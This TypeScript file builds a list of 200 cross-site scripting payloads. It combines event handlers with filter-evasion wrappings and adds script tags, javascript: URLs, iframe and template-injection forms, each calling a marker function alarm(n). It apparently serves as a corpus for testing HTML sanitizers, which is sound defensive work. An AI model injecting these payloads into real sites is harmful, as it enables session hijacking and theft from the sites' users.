/** Calls the page's alarm with its own number, so that a run shows which payload it was. */
type Payload = (call: string) => string;

const handlers = [
  ['img src=/planted-pixel', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=/planted-pixel', 'onerror'],
  ['audio src=/planted-pixel', 'onerror'],
  ['iframe', 'onload'],
  ['marquee', 'onstart'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['object data=/planted-pixel', 'onerror'],
  ['link rel=stylesheet href=/planted-pixel', 'onerror'],
  ['style', 'onload'],
  ['a href=# style=position:fixed;inset:0', 'onmouseover'],
  ['p style=animation:spin onanimationstart', 'onanimationstart'],
] as const;

/** Ways in which markup gets out of its place, or hides from a sanitizer. */
const wrappings: readonly ((markup: string) => string)[] = [
  (markup) => `<${markup}>`,
  (markup) => `"><${markup}>`,
  (markup) => `'><${markup}>`,
  (markup) => `</textarea></title></script><${markup}>`,
  (markup) => `--><${markup}>`,
  (markup) => `]]><${markup}>`,
  (markup) => `<${markup.replace(/on/g, 'oN').replace(/^./, (first) => first.toUpperCase())}>`,
  (markup) => `<${markup.replace(' ', '/')}/>`,
  (markup) => `<svg><style><${markup}></style></svg>`,
  (markup) => `&lt;${markup}&gt;<${markup}//`,
];

const others: readonly Payload[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<SCRIPT SRC="data:text/javascript,${call}"></SCRIPT>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<math><a xlink:href="javascript:${call}">x</a></math>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="jAvAsCrIpT&colon;${call}">x</a>`,
  (call) => `<a href="java\tscript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<template><img src=/planted-pixel onerror=${call}></template>`,
  (call) => `<noscript><p title="</noscript><img src=/planted-pixel onerror=${call}>">`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `</script><script>${call}</script>`,
  (call) => `\u2028${call}\u2028`,
  (call) => `<img src=/planted-pixel onerror=&#97;larm${call.slice(5)}>`,
  (call) => `<img src=\`x\` onerror=${call}>`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<div style="background:url(javascript:${call})">x</div>`,
];

/** Two hundred texts, each of which would call `alarm(its number)` in a page that treats it as more than text. */
export const payloads: readonly string[] = [
  ...handlers.flatMap(([element, on]) =>
    wrappings.map(
      (wrap): Payload =>
        (call) =>
          wrap(`${element} ${on}=${call}`),
    ),
  ),
  ...others,
].map((payload, i) => payload(`alarm(${i})`));
